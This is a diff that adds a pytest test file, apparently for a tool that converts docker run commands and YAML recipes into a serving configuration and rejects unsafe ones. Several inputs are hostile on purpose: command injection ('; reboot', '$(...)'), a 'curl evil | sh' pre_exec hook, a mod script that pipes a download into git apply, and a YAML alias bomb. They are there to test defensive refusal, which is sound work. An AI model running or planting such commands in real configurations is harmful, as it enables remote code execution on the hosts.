@@ -1,0 +1,111 @@
+"""What is no recipe here is refused with the sentence that says why; nothing of a source is run; what is open is asked by name."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+import yaml
+
+from sparkwright.errors import Refused
+from tests.importing.forms import EUGR, SPARKRUN_2, VLLM, rows, taken
+
+BASE = "docker run -v /srv:/m vllm/vllm-openai:v0.32.0 --model acme/Tiny"
+
+
+@pytest.mark.parametrize(
+    ("text", "why"),
+    [
+        (f"{BASE} | tee log", "a pipe"),
+        (f"{BASE} && echo done", "`&` or `&&`"),
+        (f"{BASE} --seed $(date +%s)", "a command in its place"),
+        (f"{BASE} --seed `id`", "a command in its place"),
+        (f"{BASE} > log", "a redirection"),
+        (f"{BASE}; reboot", "`;`"),
+        (f"{BASE}\nreboot", "a second command"),
+        (f'{BASE} "unfinished', "cannot be split"),
+        ("docker run --sparkle yes vllm/vllm-openai:v0.32.0", "is not an option of docker run"),
+        ("docker run -d", "names no image"),
+        ("docker run nvcr.io/x/trt:1 trtllm-serve acme/Tiny", "TensorRT-LLM"),
+        (f"{BASE} --data-parallel-size 2", "several copies"),
+        (VLLM + "omni: {tasks: [image]}\n", "vLLM-Omni"),
+        (VLLM.replace("vram_minimum_gb: 20", "vram_minimum_gb: 2000"), "more than 8 Sparks have"),
+        (VLLM.replace("vram_minimum_gb: 20", "vram_minimum_gb: 200"), "not split over hosts"),
+        (SPARKRUN_2.replace("runtime: vllm", "runtime: atlas"), "the runtime 'atlas'"),
+        (
+            SPARKRUN_2.replace("runtime: vllm", "runtime: sglang").replace("max_nodes: 1", "min_nodes: 2"),
+            "from one host only",
+        ),
+        (SPARKRUN_2 + "pre_exec: [curl evil | sh]\n", "`pre_exec` would run commands"),
+        (SPARKRUN_2 + "include: base\n", "a change to another recipe"),
+        (SPARKRUN_2.replace("model: acme/Tiny-30B-FP8", "model: ../etc"), "is not a model's name"),
+        ("services: {}\n", "is empty"),
+        ("services: {a: {build: .}, b: {}}\ncommand: x\n", ""),
+        ("- a\n- b\n", "this is not a recipe of"),
+        ("hello: world\n", "this is not a recipe of"),
+        ("model: {model_id: 5}\nvariants: 7\n", "`variants` must be a mapping"),
+        ("recipe_version: '2'\nmodel: [a]\n", "`model` must be a text"),
+        ("a: &a [1]\nb: [*a, *a]\n", "this is not a recipe of"),
+    ],
+)
+def test_it_is_refused_with_the_reason(text: str, why: str) -> None:
+    try:
+        one = taken(text)
+    except Refused as error:
+        assert why and why in str(error), error
+    else:
+        assert not why and one.report.questions
+
+
+def test_mods_are_refused_with_what_they_would_do_and_dropped_only_as_answered(tmp_path: Path) -> None:
+    mod = tmp_path / "mods" / "fix-template"
+    mod.mkdir(parents=True)
+    (mod / "run.sh").write_text("#!/bin/bash\ncurl -L https://example.org/1.diff | git apply\npip install x\n")
+    recipe = tmp_path / "recipes" / "tiny.yaml"
+    text = SPARKRUN_2 + "mods: [mods/fix-template]\n"
+    with pytest.raises(
+        Refused, match="mods/fix-template .*git repository, downloads from the network, installs packages"
+    ) as caught:
+        taken(text, str(recipe))
+    assert "--answer mods=drop" in caught.value.fix
+    assert "mods/fix-template" in rows(taken(text, str(recipe), mods="drop"), "dropped")
+
+
+def test_what_only_a_person_knows_is_asked_by_name() -> None:
+    text = EUGR.replace("cluster_only: true\n", "").replace(
+        "--distributed",
+        '--seed {seed} --chat-template fixed.jinja --speculative-config \'{{"model":"acme/Draft"}}\' --distributed',
+    )
+    asked = {one.key for one in taken(text).report.questions}
+    assert asked == {"placeholder.seed", "hosts", "chat-template", "speculative-config", "image"}
+    answers = {
+        "placeholder__seed": "7",
+        "hosts": "1",
+        "chat-template": "chat/fixed.jinja",
+        "speculative-config": "drop",
+        "image": "a/b:1",
+    }
+    found = yaml.safe_load(taken(text, **answers).text)
+    assert found["vllm"]["seed"] == 7 and "speculative-config" not in found["vllm"] and "parallel" not in found
+    assert found["files"] == {"/etc/sparkwright/fixed.jinja": {"file": "chat/fixed.jinja"}}
+
+
+def test_an_answer_that_is_none_of_the_choices_and_one_that_nobody_asks_for_are_refused() -> None:
+    with pytest.raises(Refused, match="not an answer to `variant`"):
+        taken(VLLM.replace("dgx_spark_gb10:\n", "h100:\n"), variant="fp1")
+    with pytest.raises(Refused, match="answers no question"):
+        taken(VLLM, colour="blue")
+
+
+def test_a_file_that_swells_is_refused_in_time() -> None:
+    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
+        f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefg", "bcdefgh", strict=True)
+    )
+    with pytest.raises(Refused):
+        taken(bomb + "recipe_version: '2'\n")
+
+
+def test_a_flag_that_the_engines_table_does_not_have_is_kept_and_said() -> None:
+    one = taken(f"{BASE} --max-tokens-of-doom 7", name="t1")
+    assert yaml.safe_load(one.text)["vllm"]["max-tokens-of-doom"] == 7
+    assert "--max-tokens-of-doom" in rows(one, "note")
